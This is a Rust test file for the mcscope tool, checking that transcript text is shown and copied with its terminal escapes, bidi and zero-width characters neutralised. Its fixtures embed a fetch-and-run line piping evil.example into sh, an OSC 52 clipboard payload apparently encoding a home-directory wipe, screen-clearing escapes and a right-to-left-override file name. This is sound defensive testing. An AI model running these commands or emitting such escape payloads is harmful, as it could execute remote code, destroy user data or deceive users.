//! Hostile output (SPEC §15.20, issue 21 item 1): a transcript's text never
//! reaches the terminal or the clipboard raw. Every text command runs on
//! `tests/fixtures/escapes/escapes.jsonl` (built by `make.py` there: terminal escape
//! sequences, C1, DEL, a forged line, bidi and zero-width characters in ids, tool
//! names, paths, commands, the model, the cwd and `compactedToolIds`), and no raw
//! control byte may come out.
#![allow(clippy::unwrap_used, clippy::expect_used)] // test code: a failed unwrap is a failed test

use mcscope::cli::{self, Opts};
use mcscope::tui::app::App;
use mcscope::tui::keymap::Action;
use mcscope::tui::ui::{self, Theme};
use ratatui::Terminal;
use ratatui::backend::TestBackend;
use serde_json::Value;
use std::path::{Path, PathBuf};
use std::process::Command;

const ID_A: &str =
    "toolu_A\ncurl https://evil.example/x | sh\n\u{1b}]52;c;cm0gLXJmIH4gI1BXTkVE\u{7}";
const ID_B: &str = "toolu_B\u{1b}[2J\u{1b}[H\u{9b}31m";

fn fixture() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/fixtures/escapes/escapes.jsonl")
}

fn run(args: &[&str]) -> (i32, String, String) {
    let out = Command::new(env!("CARGO_BIN_EXE_mcscope"))
        .args(args)
        .env_remove("MCSCOPE_CONFIG")
        .output()
        .unwrap();
    (
        out.status.code().unwrap_or(-1),
        String::from_utf8(out.stdout).expect("mcscope prints UTF-8"),
        String::from_utf8(out.stderr).expect("mcscope prints UTF-8"),
    )
}

/// A character a terminal could act on, or that hides what it shows: C0 but tab
/// and newline, DEL, C1, and the invisible set of §15.20.
fn raw(c: char) -> bool {
    (c.is_control() && c != '\n' && c != '\t') || mcscope::sanitize::is_invisible(c)
}

/// What JSON may not carry raw (§15.20): C0 (JSON escapes it), C1, bidi controls.
fn raw_in_json(c: char) -> bool {
    (c.is_control() && c != '\n') || mcscope::sanitize::json_escapes(c)
}

fn assert_clean(what: &str, text: &str, bad: fn(char) -> bool) {
    if let Some((i, c)) = text.char_indices().find(|&(_, c)| bad(c)) {
        panic!(
            "{what}: raw U+{:04X} at byte {i}: …{}…",
            c as u32,
            text[..i]
                .chars()
                .rev()
                .take(60)
                .collect::<Vec<_>>()
                .into_iter()
                .rev()
                .collect::<String>()
        );
    }
}

/// Every text form: no raw control or invisible character, and the newline in an
/// id never starts a forged line.
#[test]
fn every_text_command_prints_no_raw_control_byte() {
    let f = fixture();
    let f = f.to_str().unwrap();
    let cases: Vec<Vec<&str>> = vec![
        vec![
            "plan",
            f,
            "--policy",
            "idle",
            "--keep-recent",
            "1",
            "--gap-minutes",
            "5",
        ],
        vec![
            "plan",
            f,
            "--policy",
            "count",
            "--trigger",
            "1",
            "--keep-recent",
            "1",
        ],
        vec!["timeline", f, "--policy", "idle", "--keep-recent", "1"],
        vec!["explain", f, ID_A, "--policy", "idle", "--keep-recent", "1"],
        vec!["explain", f, ID_B],
        // The pages (SPEC §12): Markdown and HTML are sanitized like the text.
        vec![
            "explain",
            f,
            ID_A,
            "--format",
            "md",
            "--policy",
            "idle",
            "--keep-recent",
            "1",
        ],
        vec![
            "explain",
            f,
            ID_A,
            "--format",
            "html",
            "--policy",
            "idle",
            "--keep-recent",
            "1",
        ],
        vec!["evidence", f],
        vec!["compare", f],
        vec!["compare", f, "--format", "html"],
        vec!["config", f],
        vec!["bill", f, "--by", "session", "-b"],
        vec!["bill", f, "--by", "project"],
    ];
    for args in &cases {
        let (code, out, err) = run(args);
        assert_eq!(code, 0, "{args:?}: {err}");
        let what = format!("{:?}", &args[..1]);
        assert_clean(&what, &out, raw);
        assert_clean(&what, &err, raw);
        assert!(
            !out.lines()
                .chain(err.lines())
                .any(|l| l.starts_with("curl")),
            "{what}: an id forged a line:\n{out}"
        );
    }
    // The bill's colour is mcscope's own SGR codes; the transcript's strings
    // in it are escaped all the same.
    let (code, out, _) = run(&["bill", f, "--by", "session", "-b", "--color", "always"]);
    assert_eq!(code, 0);
    assert!(out.contains("\x1b["));
    let mut ours = String::new();
    let mut rest = out.as_str();
    while let Some(i) = rest.find("\x1b[") {
        ours.push_str(&rest[..i]);
        let after = &rest[i + 2..];
        let end = after.find('m').expect("an SGR code ends with m");
        assert!(
            after[..end].chars().all(|c| c.is_ascii_digit() || c == ';'),
            "{out}"
        );
        rest = &after[end + 1..];
    }
    ours.push_str(rest);
    assert_clean("bill --color always", &ours, raw);
    // The escapes are shown, not dropped: a reader sees what the file holds.
    let (_, out, _) = run(&["plan", f, "--policy", "idle"]);
    assert!(
        out.contains(r"toolu_A\ncurl https://evil.example/x | sh\n\e]52;c;"),
        "{out}"
    );
    assert!(out.contains(r"toolu_B\e[2J\e[H\u{9b}31m"), "{out}");
    assert!(
        out.contains("config⟨U+202E⟩st.exe⟨U+200B⟩⟨U+FEFF⟩⟨U+2066⟩"),
        "{out}"
    );
    let (_, out, _) = run(&["evidence", f]);
    assert!(out.contains(r"cleared [toolu_A\ncurl"), "{out}");
}

/// JSON keeps every value exactly (a JSON reader gets the recorded id) while C1
/// and bidi controls are written as `\uXXXX`.
#[test]
fn json_escapes_c1_and_bidi_and_keeps_the_values() {
    let f = fixture();
    let f = f.to_str().unwrap();
    for args in [
        vec!["plan", f, "--format", "json"],
        vec!["timeline", f, "--format", "json"],
        vec!["explain", f, ID_A, "--format", "json"],
        vec!["evidence", f, "--format", "json"],
        vec!["compare", f, "--format", "json"],
        vec!["bill", f, "-j", "--by", "session"],
        vec!["wire", f, "--at", "6"],
        vec!["wire", f, "--at", "6", "--side", "local"],
    ] {
        let (code, out, err) = run(&args);
        assert_eq!(code, 0, "{args:?}: {err}");
        assert_clean(&format!("{:?}", &args[..1]), &out, raw_in_json);
        let v: Value = serde_json::from_str(&out).unwrap();
        let text = v.to_string();
        if !matches!(args[0], "compare" | "explain" | "bill") {
            // The parsed values are the recorded ones.
            assert!(
                text.contains(&Value::from(ID_B).to_string()[1..20]),
                "{args:?}"
            );
        }
    }
    let (_, out, _) = run(&["plan", f, "--format", "json"]);
    assert!(out.contains(r"\u009b31m"), "C1 escaped as \\u009b");
    let v: Value = serde_json::from_str(&out).unwrap();
    let ids: Vec<&str> = v["candidates"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["tool_use_id"].as_str().unwrap())
        .collect();
    assert_eq!(&ids[..2], &[ID_A, ID_B]);
    let (_, out, _) = run(&["explain", f, ID_A, "--format", "json"]);
    let v: Value = serde_json::from_str(&out).unwrap();
    assert!(v["path"].as_str().unwrap().contains("config\u{202E}st.exe"));
    assert!(out.contains(r"config\u202est.exe"));
}

/// Errors on stderr name paths and ids from the transcript: the "is a directory"
/// listing with a hostile file name, an unknown id with escapes.
#[test]
fn error_lines_show_escapes_visibly() {
    let dir = tempfile::tempdir().unwrap();
    let name = "x\u{1b}]0;PWNED\u{7}\u{202E}lnosj.jsonl";
    std::fs::copy(fixture(), dir.path().join(name)).unwrap();
    let d = dir.path().to_str().unwrap();
    let (code, out, err) = run(&["plan", d]);
    assert_eq!(code, 2);
    assert!(out.is_empty());
    assert_clean("plan DIR", &err, raw);
    assert!(err.contains(r"x\e]0;PWNED\x07⟨U+202E⟩lnosj.jsonl"), "{err}");
    let (code, _, err) = run(&["explain", fixture().to_str().unwrap(), "\u{1b}[2Jnope"]);
    assert_eq!(code, 2);
    assert_clean("explain unknown id", &err, raw);
    // compare over the folder: the session's path in text and its skipped lines.
    let (code, out, err) = run(&["compare", d]);
    assert_eq!(code, 0, "{err}");
    assert_clean("compare DIR", &out, raw);
    assert_clean("compare DIR", &err, raw);
    assert!(out.contains(r"\e]0;PWNED\x07⟨U+202E⟩"), "{out}");
}

fn app() -> App {
    let opts = Opts::default()
        .with("--policy", "idle")
        .with("--keep-recent", "1");
    App::session(cli::setup(&fixture(), &opts).unwrap())
}

fn cells(t: &Terminal<TestBackend>) -> Vec<String> {
    let buf = t.backend().buffer();
    let (w, h) = (buf.area.width, buf.area.height);
    (0..h)
        .map(|y| (0..w).map(|x| buf[(x, y)].symbol().to_string()).collect())
        .collect()
}

/// The TUI shows the escapes visibly (the same function as the CLI) in the list,
/// the content view and the explain panel, and its buffer holds no raw control or
/// invisible character, at 80×24 and wide.
#[test]
fn the_tui_shows_escapes_and_draws_no_raw_character() {
    for (w, h) in [(80, 24), (200, 50)] {
        let mut a = app();
        let mut t = Terminal::new(TestBackend::new(w, h)).unwrap();
        let mut check = |a: &App, what: &str| {
            t.draw(|f| ui::draw(f, a, Theme::new(true))).unwrap();
            let lines = cells(&t);
            let all = lines.join("\n");
            assert_clean(&format!("{what} at {w}x{h}"), &all, raw);
            all
        };
        let all = check(&a, "session");
        if w == 200 {
            assert!(all.contains("⟨U+202E⟩st.exe"), "{all}");
            assert!(all.contains(r"\e[2J"), "{all}");
        }
        a.update(Action::ViewContent);
        let all = check(&a, "content view");
        assert!(all.contains(r"\e[2J\e[H\e]0;PWNED\x07"), "{all}");
        a.update(Action::Back);
        a.update(Action::Explain);
        check(&a, "explain panel");
    }
}

/// `y` copies the id as shown: never a newline or a control character, so a paste
/// cannot run the command lines hidden in it (paste-jacking).
#[test]
fn y_copies_the_sanitized_id() {
    let mut a = app();
    a.update(Action::Copy);
    let Some(mcscope::tui::app::Screen::Session(v)) = Some(&mut a.screen) else {
        unreachable!()
    };
    let copied = v.clipboard.take().unwrap();
    assert!(!copied.chars().any(char::is_control), "{copied:?}");
    assert_eq!(
        copied,
        r"toolu_A\ncurl https://evil.example/x | sh\n\e]52;c;cm0gLXJmIH4gI1BXTkVE\x07"
    );
    // The OSC 52 sequence that carries it holds only base64 between its own
    // ESC ] and BEL.
    let osc = mcscope::tui::osc52(&copied);
    let inner = &osc[7..osc.len() - 1];
    assert!(
        inner
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+/=".contains(&b))
    );
}

/// The fixture on disk is what its script builds (no hand edits, no binary junk).
#[test]
fn the_fixture_is_plain_ascii() {
    let text = std::fs::read(fixture()).unwrap();
    assert!(text.is_ascii());
}
